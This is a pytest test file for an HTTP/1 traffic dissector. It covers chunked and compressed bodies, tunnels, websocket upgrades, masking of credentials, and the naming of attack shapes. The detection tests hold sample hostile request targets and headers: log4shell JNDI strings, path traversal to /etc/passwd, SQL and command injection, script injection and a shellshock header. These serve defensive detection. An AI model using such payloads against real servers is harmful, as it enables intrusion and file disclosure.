"""HTTP/1: messages, bodies, tunnels and what they tell."""

from __future__ import annotations

import gzip

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tcp_talk import CLIENT, SERVER, Talk

from analysis import layers
from analysis.protocols import http
from analysis.protocols.bulk import _is_body

GET = b"GET /a?b=1 HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/8\r\n\r\n"
OK = b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"


def test_a_request_is_one_layer_and_one_fact() -> None:
    """Method, target, host and agent are kept."""
    talk = Talk(80)
    assert talk.sized(CLIENT, GET) == [(layers.HTTP, len(GET))]
    (fact,) = talk.facts.http
    assert (fact.method, fact.uri, fact.host, fact.user_agent, fact.status) == (
        "GET", "/a?b=1", "example.org", "curl/8", 0,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        (b"text/html; charset=utf-8", "http/data-text-lines"),
        (b"application/json", "http/json/data-text-lines"),
        (b"application/xml", "http/xml"),
        (b"application/zip", "http/media"),
        (b"multipart/mixed; boundary=x", "http/mime_multipart"),
    ],
)
def test_the_body_is_named_by_its_media_type(kind: bytes, expected: str) -> None:
    """The layer behind http."""
    assert Talk(80).server(OK % (kind, 5) + b"{1:2}") == expected


def test_the_head_and_the_body_share_the_bytes() -> None:
    """http has the header section, the body's layer the unpacked content."""
    packed = gzip.compress(b"hello world")
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(
        packed
    )
    assert Talk(80).sized(SERVER, head + packed) == [(layers.HTTP, len(head)), (layers.DATA_TEXT_LINES, 11)]


def test_a_body_in_several_segments_is_shown_in_the_last() -> None:
    """Content-Length says how much to wait for."""
    talk = Talk(80)
    answer = OK % (b"text/plain", 300) + b"x" * 300
    assert [talk.server(answer[:100]), talk.server(answer[100:250]), talk.server(answer[250:])] == [
        "", "", "http/data-text-lines",
    ]  # fmt: skip


def test_chunks_are_put_together() -> None:
    """A chunked body ends with its empty chunk, wherever segments are cut."""
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nwiki\r\n5;x=y\r\npedia\r\n0\r\n\r\n"
    for cut in range(20, len(answer), 3):
        talk = Talk(80)
        assert [talk.server(answer[:cut]), talk.server(answer[cut:])] == ["", "http/data-text-lines"], cut
    assert http.dechunk(b"4\r\nwiki\r\n5\r\npedia\r\n0\r\n\r\n") == b"wikipedia"


def test_headers_in_two_segments() -> None:
    """Half a header section is bare TCP."""
    talk = Talk(80)
    assert [talk.client(GET[:30]), talk.client(GET[30:])] == ["", "http"]


def test_two_requests_in_one_segment_are_two_units() -> None:
    """Pipelining. As Wireshark counts, the first goes to the end of the segment, and the head of the second too."""
    assert Talk(80).sized(CLIENT, GET + GET) == [(layers.HTTP, 2 * len(GET)), (layers.HTTP, len(GET))]
    answer = OK % (b"text/plain", 5) + b"hello"
    assert Talk(80).sized(SERVER, answer + answer) == [
        (layers.HTTP, len(answer) - 5), (layers.DATA_TEXT_LINES, 5), (layers.HTTP, len(answer)), (layers.DATA_TEXT_LINES, 5),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("fields", "body", "expected"),
    [
        (b"", b"<a>", [(layers.HTTP, 0)]),  # no type: the body is shown inside HTTP
        (b"Content-Encoding: zstd\r\nContent-Type: text/plain\r\n", b"(\xb5/\xfd", [(layers.HTTP, 0)]),
        (b"Content-Type: audio/mpeg\r\n", b"ID3", [(layers.HTTP, 0), (layers.MEDIA, 3)]),  # a type nobody knows
        (b"", b"GIF89a" + bytes(20), [(layers.HTTP, 26), (layers.IMAGE_GIF, 26)]),
        (b"Content-Type: image/png\r\n", b"\xff\xd8\xff\xe1\0\x10Exif\0" + bytes(9),
         [(layers.HTTP, 20), (layers.IMAGE_JFIF, 20)]),
        (b"Content-Type: image/png\r\n", b"no picture at all", [(layers.HTTP, 0), (layers.MEDIA, 17)]),
    ],
)  # fmt: skip
def test_what_wireshark_does_not_know_stays_inside_http(
    fields: bytes, body: bytes, expected: list[tuple[int, int]]
) -> None:
    """HTTP has its header section where a dissector took the body, else all bytes."""
    answer = b"HTTP/1.1 200 OK\r\n%sContent-Length: %d\r\n\r\n" % (fields, len(body)) + body
    own = len(answer) - expected[0][1]
    assert Talk(80).sized(SERVER, answer) == [(layers.HTTP, own), *expected[1:]]


def test_behind_a_request_everything_is_http() -> None:
    """What starts no message continues one that nobody saw."""
    talk = Talk(80)
    talk.client(GET)
    assert [talk.server(b"\x00\x01\x02"), talk.server(b"f2c\r\n")] == ["http", "http"]


def test_no_body_where_the_standard_forbids_one() -> None:
    """An answer to HEAD has a length and no body (RFC 9112 6.3)."""
    talk = Talk(80)
    talk.client(GET.replace(b"GET", b"HEAD"))
    assert talk.server(OK % (b"text/plain", 300)) == "http"


def test_connect_hands_the_stream_to_what_follows() -> None:
    """TLS inside a tunnel stands below http."""
    talk = Talk(8080)
    assert talk.client(b"CONNECT a:443 HTTP/1.1\r\n\r\n") == "http"
    assert talk.server(b"HTTP/1.1 200 Connection established\r\n\r\n") == "http"
    assert talk.client(b"\x16\x03\x01\x00\x04\x01\x00\x00\x00") == "http/tls"


def test_upgrade_to_websocket() -> None:
    """After 101 the frames are websocket messages."""
    talk = Talk(80)
    talk.client(b"GET /chat HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
    assert talk.server(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n") == "http"
    assert talk.server(b"\x81\x05hello") == "websocket/data-text-lines"
    assert talk.client(b"\x82\x81\x01\x02\x03\x04\x00") == "websocket/data"
    pieces = [b"\x01\x02he", b"\x89\x00", b"\x00\x02ll", b"\x80\x01o"]  # a ping may stand between fragments
    assert [talk.sized(SERVER, piece) for piece in pieces] == [
        [(layers.WEBSOCKET, 2)],
        [(layers.WEBSOCKET, 2)],
        [(layers.WEBSOCKET, 2)],
        [(layers.WEBSOCKET, 2), (layers.DATA_TEXT_LINES, 5)],
    ]


def test_recognised_on_any_port() -> None:
    """The first line names the version."""
    assert Talk(12_345).client(GET) == "http"
    assert Talk(12_345).client(b"GET / and so on\r\n") == "data"


def test_bytes_that_are_no_http_show_nothing() -> None:
    """On its port the dissector keeps what it does not understand to itself, as Wireshark's does."""
    assert Talk(80).client(b"\x00\x01\x02 nonsense\r\n") == ""


def test_http2_behind_its_preface() -> None:
    """Frames of HTTP/2 on a port of HTTP."""
    talk = Talk(8080)
    assert talk.client(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04\x00" + bytes(4)) == "http2/http2"


def test_basic_credentials_become_a_login_without_the_secret() -> None:
    """The user name stays, the password does not."""
    talk = Talk(80)
    talk.client(b"GET / HTTP/1.1\r\nAuthorization: Basic YWxpY2U6c2VzYW1l\r\n\r\n")
    talk.server(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")
    (login,) = talk.facts.login
    assert (login.user, login.secret_masked, login.result, login.cleartext) == ("alice", "***", 0, True)
    assert "sesame" not in repr(talk.facts)


def test_form_logins() -> None:
    """A POST with a password field."""
    talk = Talk(80)
    body = b"username=bob%40x&password=hunter2"
    talk.client(
        b"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n"
        % len(body)
        + body
    )
    talk.server(b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\n\r\n")
    assert [(row.user, row.result) for row in talk.facts.login] == [("bob@x", 1)]


@pytest.mark.parametrize(
    ("target", "shape"),
    [
        (b"/?x=${jndi:ldap://h/a}", "log4shell"),
        (b"/../../../../etc/passwd", "path-traversal"),
        (b"/%2e%2e/%2e%2e/etc/hosts", "path-traversal"),
        (b"/i.php?id=1'+UNION+ALL+SELECT+1,2--", "sql-injection"),
        (b"/i.php?id=1%27%20or%20%271%27=%271", "sql-injection"),
        (b"/cgi?x=;cat%20/etc/hosts", "command-injection"),
        (b"/s?q=<script>alert(1)</script>", "script-injection"),
    ],
)
def test_attack_shapes_of_requests(target: bytes, shape: str) -> None:
    """What stands in a target is reported by the name of its shape."""
    talk = Talk(80)
    talk.client(b"GET " + target + b" HTTP/1.1\r\nHost: h\r\n\r\n")
    assert shape in [row.shape for row in talk.facts.payload]


def test_shapes_in_headers_and_none_in_plain_requests() -> None:
    """Two shapes also come in headers; browsers' headers look like none."""
    talk = Talk(80)
    talk.client(b"GET / HTTP/1.1\r\nUser-Agent: () { :;}; /bin/ls\r\nCookie: ${jndi:dns://h}\r\n\r\n")
    assert {row.shape for row in talk.facts.payload} == {"shellshock", "log4shell"}
    quiet = Talk(80)
    quiet.client(
        b"GET /search?q=union+of+workers HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nCookie: a=b; c=d\r\n\r\n"
    )
    assert quiet.facts.payload == []


def test_long_bodies_count_whole() -> None:
    """A stream keeps 256 KiB of a unit; its layers have all the bytes that there were."""
    body = bytes(300_000)
    for kind, head in ((b"application/octet-stream", 0), (b"application/x-none", len(body))):
        answer = OK % (kind, len(body)) + body
        talk = Talk(80)
        for at in range(0, len(answer), 50_000):
            sizes = talk.sized(SERVER, answer[at : at + 50_000])
        assert [size for _, size in sizes] == [len(answer) - len(body) + head, len(body)]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"k\x04\x3e\x8f:\xb6\r:\x07\x08", "http"),  # a colon in the first line, wherever it stands
        (b"k\x04\x3e\x8f\xb6\r:\x07\x08", ""),  # CR alone ends a line
        (b"\x9f:\r\n", ""),  # the first byte is no text
        (b"\r\nmore: of\r\n\r\n", "http"),  # an empty line before a message is passed by (RFC 9112 2.2)
        (b"a: 1\r\nb without", "http/_ws.malformed"),  # a last line that might have become a field
        (b"a: 1\r\nb without\r\n", "http"),
        (b"Content-Type: text/plain\r\n\r\nhello", "http/data-text-lines"),
    ],
)
def test_lines_that_begin_no_message(data: bytes, expected: str) -> None:
    """The middle of a connection: Wireshark shows what looks like a header field."""
    assert Talk(80).server(data) == expected


@given(st.binary(min_size=1, max_size=200))
@example(b"k\x04\r")
@example(b"\r\n\r\n:")
def test_what_the_kernel_passes_by_as_a_body_is_shown_by_nobody(data: bytes) -> None:
    """The lane of an HTTP connection that shows nothing agrees with the dissector."""
    if _is_body(np.frombuffer(data, np.uint8), 0, len(data)):
        talk = Talk(80)
        assert [talk.server(data), talk.server(b"a: 1\r\n")] == ["", "http"]  # the second segment begins anew


def test_text_without_an_end_of_line_waits_for_more() -> None:
    """Printable first, no CR or LF, or a CR that an LF may follow."""
    talk = Talk(80)
    assert [talk.server(b"k\x04abc"), talk.server(b"d\r"), talk.server(b"\n")] == ["", "", ""]
    talk = Talk(80)
    assert [talk.server(b"k\x04abc"), talk.server(b"d: 1\r\n")] == ["", "http"]


def test_text_that_never_ends_is_not_waited_for_for_ever() -> None:
    """A download of letters without a line: nothing is shown, and nothing is marked."""
    talk = Talk(80)
    assert {talk.server(b"ABCDEFGH" * 180) for _ in range(400)} == {""}


def test_a_request_behind_an_empty_line_is_read() -> None:
    """RFC 9112 2.2."""
    talk = Talk(80)
    assert talk.sized(CLIENT, b"\r\n" + GET) == [(layers.HTTP, len(GET))]
    assert talk.facts.http[0].host == "example.org"


def test_a_gap_ends_the_waiting_for_a_chunk() -> None:
    """Wireshark asks for one segment at a time: what follows a lost one is looked at by itself."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n8000\r\n"
    whole, broken = Talk(80), Talk(80)
    for talk in (whole, broken):
        assert [talk.server(head), *(talk.server(b"x" * 8192) for _ in range(3))] == ["", "", "", ""]
    assert whole.server(b"x" * 8192 + b"\r\n0\r\n\r\n") == "http/data-text-lines"
    assert broken.say(SERVER, b"a: 1\r\n", skip=500) == "http"


@pytest.mark.parametrize("chunk", [700, 8192, 100_000])
def test_chunks_of_a_long_body_are_walked_to_the_end(chunk: int) -> None:
    """Of a body of more than 256 kB only the beginning is kept; the size lines of its chunks are still read."""
    body = b"".join(b"%x\r\n" % chunk + b"y" * chunk + b"\r\n" for _ in range(900_000 // chunk)) + b"0\r\n\r\n"
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n" + body
    talk = Talk(80)
    found = [talk.server(answer[at : at + 1399]) for at in range(0, len(answer), 1399)]
    assert found == [""] * (len(found) - 1) + ["http/data-text-lines"]
    assert talk.server(b"HTTP/1.1 304 Not Modified\r\n\r\n") == "http"
